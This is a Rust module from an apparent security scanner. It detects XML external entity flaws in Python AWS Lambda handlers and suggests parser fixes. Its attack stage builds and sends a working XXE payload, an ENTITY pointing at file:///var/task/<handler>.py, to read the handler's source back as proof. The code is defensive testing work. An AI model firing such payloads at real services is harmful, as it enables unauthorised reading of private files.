//! XML of a caller is read by a parser that resolves external entities.

use crate::entry::Danger;
use crate::flow::{self, Sinks};
use crate::probe::{self, Probe};
use crate::{Attack, source};
use crate::{Profile, Proved, Reason, Risk};
use model::attack::{Outcome, PlantAt};
use model::aws::Function;
use model::code::{Flow, SinkKind};
use model::{App, Finding, Fix, Foothold, Target};
use std::collections::BTreeSet;

/// The risk.
pub const RISK: Risk = Risk {
    slug: SLUG,
    page: include_str!("risk.md"),
    profile: Profile::Default,
    check,
    attack: Ok(Attack { foothold: Foothold::Anyone, plant, run }),
    detections: &[],
    without: &[(Proved::Detected, Reason::NoLog)],
};

const SLUG: &str = "xml-external-entity";

const SINKS: Sinks =
    Sinks { slug: SLUG, takes, says: |_| "resolves the external entities of", danger: |_| Danger::Takeover, credentials: true, fix };

/// Elements that a document of the attack has at most.
const MOST_ELEMENTS: usize = 24;

fn check(app: &App) -> Vec<Finding> {
    flow::findings(app, &SINKS)
}

fn takes(flow: &Flow) -> bool {
    matches!(flow.sink, SinkKind::Xml)
}

/// lxml is given a parser that resolves nothing and connects nowhere; a SAX parser is no longer told to resolve.
fn fix(app: &App, flow: &Flow) -> Option<Fix> {
    let says = "read it with a parser that resolves no entities".into();
    let told = ["feature_external_ges, True", "feature_external_ges, 1"];
    if let Some(edit) = told.iter().find_map(|told| source::replace_in_file(app, &flow.sink_at, told, "feature_external_ges, False")) {
        return Some(Fix { says, safe: true, edits: vec![edit], then: None });
    }
    let call = source::text(app, &flow.sink_at)?;
    let module =
        ["fromstring(", "XML(", "parse("].iter().find_map(|name| call.split_once(&format!(".{name}"))).map(|(module, _)| module)?;
    let [only] = source::arguments(app, &flow.sink_at)?.try_into().ok()?;
    let lxml = app.sources.get(&flow.sink_at.file)?.text.contains("lxml");
    let plain = module.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'));
    (lxml && plain).then(|| Fix {
        says,
        safe: true,
        edits: vec![source::after(&only, &format!(", {module}.XMLParser(resolve_entities=False, no_network=True)"))],
        then: None,
    })
}

/// The canary goes into the source of the handler. Not into the environment: `/proc/self/environ` parts its variables by NUL bytes, at
/// which expat and libxml2 stop.
fn plant(_: &App, findings: &[&Finding]) -> Result<PlantAt, String> {
    let function = findings.first().map(|finding| finding.resource.clone()).ok_or("no finding to attack")?;
    Ok(PlantAt::Source { function })
}

/// Sends documents whose entity is the handler's own source.
fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
    for finding in findings {
        let flows = flow::of(app, finding, takes);
        for (function, _, flow) in flows {
            let Some((path, shows)) = app.aws().functions.get(function).and_then(stands) else {
                outcome.steps.push(format!("where the handler of {function} stands is not known: nothing was sent"));
                continue;
            };
            let document = document(&path, &elements(app, flow));
            probe::run(app, &[finding], target, outcome, &Probe { takes, payloads: &[&document], shows: &shows });
            if !outcome.loot.is_empty() {
                return;
            }
        }
    }
}

/// The file of a Python handler, as the function sees it, and how it begins there. The parsers of other languages that resolve entities
/// are given no attack.
fn stands(function: &Function) -> Option<(String, String)> {
    let (module, name) = function.handler.rsplit_once('.').filter(|_| function.runtime.starts_with("python"))?;
    Some((format!("/var/task/{}.py", module.replace('.', "/")), format!("def {name}(")))
}

/// What the function may look for in a document: the names in quotes of the file that reads it, as whoever may call it knows them.
fn elements(app: &App, flow: &Flow) -> Vec<String> {
    let text = app.sources.get(&flow.sink_at.file).map_or("", |source| &source.text);
    let is_name = |text: &&str| {
        text.len() < 40
            && text.starts_with(|c: char| c.is_ascii_alphabetic())
            && text.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c))
    };
    let names: BTreeSet<&str> = text.split(['"', '\'']).skip(1).step_by(2).filter(is_name).collect();
    names.into_iter().take(MOST_ELEMENTS).map(str::to_owned).collect()
}

/// A document in which each element, and the root itself, holds the file.
fn document(path: &str, elements: &[String]) -> String {
    let inner: String = elements.iter().map(|name| format!("<{name}>&file;</{name}>")).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY file SYSTEM \"file://{path}\">]><root>{inner}&file;</root>")
}
